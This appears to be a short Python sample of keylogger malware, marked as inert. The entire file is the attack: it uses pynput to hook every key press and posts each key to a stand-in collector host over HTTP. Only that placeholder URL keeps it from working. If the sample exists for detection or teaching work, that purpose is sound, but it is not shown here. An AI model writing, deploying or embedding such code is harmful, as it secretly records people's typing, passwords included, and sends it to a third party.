# INERT SAMPLE: never run.
from pynput import keyboard
import requests
def on_press(key):
    requests.post("https://collector.example.invalid/k", data={"k": str(key)})
def start():
    keyboard.Listener(on_press=on_press).start()
